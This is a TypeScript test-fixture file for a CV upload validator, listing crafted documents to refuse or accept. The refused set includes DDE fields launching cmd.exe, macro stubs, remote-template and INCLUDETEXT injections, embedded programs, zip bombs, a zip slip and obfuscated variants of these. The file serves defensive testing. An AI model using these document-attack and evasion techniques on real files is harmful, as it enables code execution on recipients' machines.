import type { FileError } from '@/src/domain/files/uploadedFile'
import {
  aDoc,
  aDocFromTemplate,
  aDocWithMacros,
  aDocWithPassword,
  aDocx,
  aDocxReferring,
  aDocxWithFields,
  aLinkTo,
  anEncryptedDocx,
  aPackedFile,
  aPdf,
  aPdfOf,
  aProgram,
  aWord95Doc,
  docxParts,
  fixture,
  inCapitals,
  MAIN_TYPE,
  type TestFile,
} from './documents'
import { loopingOleFiles } from './oleFile'
import { aPdfWithAttachment, endlessPdf, withEscapedNames } from './pdfs'
import { aDocOf } from './wordDocs'
import { type ZipPart, zipFile } from './zipFile'

type RefusedFile = TestFile & { error: FileError }

const pdf = await aPdf()
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2))
const docmType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const vbaType = 'application/vnd.ms-office.vbaProject'

const refused = (error: FileError, files: Record<string, TestFile>) =>
  Object.fromEntries(Object.entries(files).map(([name, file]) => [name, { ...file, error }]))
const doc = (bytes: Buffer): TestFile => ({ name: 'cv.doc', bytes })
const docx = (bytes: Buffer): TestFile => ({ name: 'cv.docx', bytes })
const asPdf = (bytes: Buffer): TestFile => ({ name: 'cv.pdf', bytes })

/** Refused files of every kind, by the reason that the candidate is shown. */
export const refusedFiles: Record<string, RefusedFile> = {
  ...refused('fileTypeRefused', {
    'a program named PDF': asPdf(Buffer.from('MZ\x90\0 This program')),
    'a web page named DOCX': docx(Buffer.from('<html></html>')),
    'a PDF named EXE': { name: 'cv.exe', bytes: pdf },
    'a plain zip named DOCX': docx(zipFile([{ name: 'a.txt', content: 'a' }])),
    'a template named DOCX': docx(zipFile(docxParts('application/x-template.main+xml'))),
    'a program that goes on like a PDF': asPdf(Buffer.concat([aProgram(), pdf])),
    'a PDF that begins too late': asPdf(Buffer.concat([Buffer.alloc(1025, ' '), pdf])),
  }),
  ...refused('fileEmpty', { 'an empty file': asPdf(Buffer.alloc(0)) }),
  ...refused('fileIsPdf', { 'a PDF named DOCX': docx(pdf), 'a PDF named DOC': doc(pdf) }),
  ...refused('fileIsDocx', {
    'a DOCX named PDF': asPdf(aDocx()),
    'a DOCX named DOC': doc(aDocx()),
  }),
  ...refused('fileIsDoc', {
    'a DOC named PDF': asPdf(fixture('libreoffice.doc')),
    'a DOC named DOCX': docx(fixture('libreoffice.doc')),
  }),
  ...refused('fileCallsProgram', {
    'a DOCX that calls a program': docx(aDocxWithFields('DDEAUTO c:\\\\cmd.exe "/k calc"')),
    'a DOCX that calls a program in pieces': docx(aDocxWithFields('D', 'D', 'EAUTO c:\\\\cmd.exe')),
    'a DOCX that calls a program in references': docx(aDocxWithFields('&#68;&#x44;E cmd')),
    'a DOCX that calls a program in a plain field': docx(
      aDocx({
        name: 'word/header1.xml',
        content: '<a xmlns:b="c" b:instr="x"><b:fldSimple b:instr="DDE cmd"/></a>',
      }),
    ),
    'a DOCX that calls a program in UTF-16': docx(
      aDocx({
        name: 'word/a.bin',
        content: Buffer.from('\uFEFF<a><fldSimple instr="DDE cmd"/></a>', 'utf16le'),
      }),
    ),
    'a DOC that calls a program': doc(aDocOf({ body: '\u0013 DDEAUTO cmd \u0014\u0015\r' })),
    'a DOC that calls a program in pieces': doc(
      aDocOf({ body: `${'a'.repeat(17)}\u0013 DDEAUTO cmd \u0014…\u0015\r` }),
    ),
    'a DOC that calls a program in its head': doc(
      aDocOf({ body: '\r', over: '\u0013DDE cmd\u0014\u0015' }),
    ),
    'a DOC that calls a program and hides its pieces': doc(
      aDocOf({ body: '\u0013 DDEAUTO cmd \u0014\u0015\r' }, ({ main }) => {
        main.writeUInt32LE(0xffffff, 0x01a2)
      }),
    ),
  }),
  ...refused('fileHasMacros', {
    'a DOC with macros': doc(aDocWithMacros()),
    'a DOC with macros in an object': doc(aDoc({ '/ObjectPool/_1/_VBA_PROJECT_CUR/dir': 'dir' })),
    'a DOCX with macros': docx(aDocx({ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' })),
    'a DOCM named DOCX': docx(zipFile(docxParts(docmType))),
    'a DOCM whose type is written in references': docx(
      zipFile(docxParts(docmType.replace('macro', 'm&#97;&#x63;ro'))),
    ),
    'a macro type for another extension': docx(
      zipFile(docxParts(undefined, `<Default Extension="bin" ContentType="${vbaType}"/>`)),
    ),
    'types written in UTF-16': docx(inUtf16(docmType)),
    'a macro part under another name': docx(
      aDocx({ name: 'word/picture.png', content: aDoc({ '/VBA/dir': 'dir' }) }),
    ),
    'a macro part that only a relationship tells of': docx(
      aDocxReferring({ type: 'vb&#97;Project', target: 'a.bin', external: false }),
    ),
  }),
  ...refused('fileNeedsPassword', {
    'an encrypted DOCX': docx(anEncryptedDocx()),
    'an encrypted DOCX named DOC': doc(anEncryptedDocx()),
    'a DOC with a password': doc(aDocWithPassword()),
    'a PDF with a password': asPdf(fixture('encrypted.pdf')),
    'a PDF that says to be open and keeps objects closed': asPdf(
      Buffer.from(
        fixture('openKey/attachments.pdf')
          .toString('latin1')
          .replace(
            '5 0 obj',
            '9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nabcd\nendstream\nendobj\n5 0 obj',
          ),
        'latin1',
      ),
    ),
    'a PDF with a password, its objects packed': asPdf(fixture('encrypted-aes-256.pdf')),
    'a PDF with a password that names it in escapes': asPdf(
      withEscapedNames(fixture('encrypted.pdf'), 'Encrypt'),
    ),
  }),
  ...refused('fileTooOld', { 'a document of Word 95': doc(aWord95Doc()) }),
  ...refused('fileLoadsElsewhere', {
    'a DOC with a template on a server': doc(aDocFromTemplate('http://192.0.2.1/a.dotm')),
    'a DOC with a linked object': doc(aDoc({ '/ObjectPool/_1/\u0001Ole': aLinkTo('http://a/b') })),
    'a DOCX with a template on the web': docx(
      aDocxReferring({ type: 'attachedTemplate', target: 'https://192.0.2.1/a.dotm' }),
    ),
    'a DOCX with a template on a server': docx(
      aDocxReferring({ type: 'attachedTemplate', target: 'file:///\\\\192.0.2.1\\a.dotm' }),
    ),
    'a DOCX with an object on the web': docx(
      aDocxReferring({ type: 'oleObject', target: 'mhtml:&#x68;ttp://192.0.2.1/a.html!x' }),
    ),
    'a DOCX that inserts text from a server': docx(
      aDocxWithFields('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\a.docx"'),
    ),
    'a DOC that inserts text from the web': doc(
      aDocOf({ body: '\u0013INCLUDETEXT http://192.0.2.1/a\u0014\u0015\r' }),
    ),
    'a DOC whose linked object is named in another case': doc(
      aDoc({ '/ObjectPool/_1/\u0001OLE': aLinkTo('http://a/b') }),
    ),
    'a DOCX whose object is a link': docx(
      aDocx({
        name: 'word/embeddings/a.bin',
        content: aDoc({ '/\u0001Ole': aLinkTo('http://a') }),
      }),
    ),
  }),
  ...refused('fileHasProgram', {
    'a DOC with a program': doc(
      aDoc({ '/ObjectPool/_1/\u0001Ole10Native': aPackedFile('cv.txt', aProgram()) }),
    ),
    'a DOC with a script': doc(
      aDoc({ '/ObjectPool/_1/\u0001Ole10Native': aPackedFile('cv.vbs', 'MsgBox 1') }),
    ),
    'a DOCX with a program': docx(aDocx({ name: 'word/media/a.png', content: aProgram() })),
    'a DOCX with a packed program': docx(
      aDocx({
        name: 'word/embeddings/a.bin',
        content: aDoc({ '/\u0001Ole10Native': aPackedFile('a.exe', 'x') }),
      }),
    ),
    'a PDF with a program': asPdf(await aPdfWithAttachment('notes.txt', aProgram())),
    'a PDF with a script file': asPdf(await aPdfWithAttachment('cv.js', Buffer.from('1'))),
  }),
  ...refused('fileTooComplex', {
    'a zip bomb': docx(
      aDocx({ name: 'word/media/a.bmp', content: Buffer.alloc(80 * 1024 * 1024) }),
    ),
  }),
  ...refused('fileDamaged', {
    'a PDF of objects that are never closed': asPdf(endlessPdf()),
    'a text that begins like a PDF': asPdf(Buffer.from('%PDF-1.7\nhi\n%%EOF')),
    'a truncated PDF': asPdf(half(pdf)),
    'a truncated DOC': doc(half(fixture('libreoffice.doc'))),
    'a truncated DOCX': docx(half(aDocx())),
    'a zip bomb that lies about its size': docx(
      aDocx({ name: 'word/a.bmp', content: Buffer.alloc(9 * 1024 * 1024), declaredBytes: 9 }),
    ),
    'a zip slip': docx(aDocx({ name: '../../evil.xml', content: 'x' })),
    'a wrong sum': docx(aDocx({ name: 'word/a.xml', content: 'x', declaredSum: 1 })),
    'two parts of one name': docx(aDocx({ name: '[content_types].xml', content: '<a/>' })),
    'types with an entity of their own': docx(withEntity()),
    ...Object.fromEntries(
      Object.entries(loopingOleFiles).map(([name, bytes]) => [name, doc(bytes)]),
    ),
  }),
}

function inUtf16(mainType: string): Buffer {
  return changeTypes(docxParts(mainType), (xml) =>
    Buffer.from(`\uFEFF${xml.replace('UTF-8', 'UTF-16')}`, 'utf16le'),
  )
}

function withEntity(): Buffer {
  return changeTypes(docxParts(), (xml) =>
    Buffer.from(xml.replace('<Types', '<!DOCTYPE Types [<!ENTITY a "macroEnabled">]><Types')),
  )
}

function changeTypes([types, ...parts]: ZipPart[], change: (xml: string) => Buffer): Buffer {
  if (!types) throw new Error('A package begins with its types')
  return zipFile([{ ...types, content: change(types.content.toString()) }, ...parts])
}

/** Valid documents of every accepted kind. */
export const acceptedFiles: Record<string, TestFile> = {
  'a PDF': asPdf(pdf),
  'a PDF from LibreOffice': { name: 'CV Élodie.PDF', bytes: fixture('libreoffice.pdf') },
  ...Object.fromEntries(
    ['rc4-40', 'rc4-128', 'aes-128', 'aes-256-r5', 'aes-256-r6'].map((method) => [
      `a PDF that only forbids printing (${method})`,
      asPdf(fixture(`ownerPassword/${method}.pdf`)),
    ]),
  ),
  'a PDF with a text attached': asPdf(await aPdfWithAttachment('cv.xml', Buffer.from('<cv/>'))),
  'a PDF of exactly 5 MB': asPdf(await aPdfOf(5 * 1024 * 1024)),
  'a PDF with lines of a mail before it': asPdf(
    Buffer.concat([Buffer.from('\r\nContent-Type: application/pdf\r\n\r\n'), pdf]),
  ),
  ...Object.fromEntries(
    ['no-id', 'indirect', 'no-perms', 'attachments', 'attachments-empty'].map((way) => [
      `a PDF that opens without a password (${way})`,
      asPdf(fixture(`openKey/${way}.pdf`)),
    ]),
  ),
  'a DOC from LibreOffice': doc(fixture('libreoffice.doc')),
  'a DOC put together anew': doc(aDoc()),
  'a DOC whose streams are named in another case': doc(inCapitals(fixture('libreoffice.doc'))),
  'a DOC with a link and a number of pages': doc(
    aDocOf({ body: '\u0013HYPERLINK "https://a.fr/"\u0014a\u0015 \u0013PAGE\u00141\u0015\r' }),
  ),
  'a DOC from a template on the own disk': doc(aDocFromTemplate('C:\\Modèles\\CV.dotx')),
  'a DOCX from LibreOffice': docx(fixture('libreoffice.docx')),
  'a DOCX as Word writes it': docx(aDocx()),
  'a DOCX with a link, a picture and a template of its own': docx(
    aDocxReferring(
      { type: 'hyperlink', target: 'https://exemple.fr/' },
      { type: 'image', target: 'https://exemple.fr/a.png' },
      { type: 'attachedTemplate', target: 'file:///C:\\Users\\Zoé\\CV.dotx' },
    ),
  ),
  'a DOCX whose main part has the usual type of its extension': docx(
    changeTypes(docxParts(), (xml) =>
      Buffer.from(
        xml
          .replace(/<Override[^>]*>/, '')
          .replace('</Types>', `<Default Extension="xml" ContentType="${MAIN_TYPE}"/></Types>`),
      ),
    ),
  ),
  'a DOCX whose main part has another name': docx(
    zipFile(
      docxParts().map(({ name, content }) => ({
        name: name.replace('document.xml', 'document2.xml'),
        content: content.toString().replaceAll('document.xml', 'document2.xml'),
      })),
    ),
  ),
}
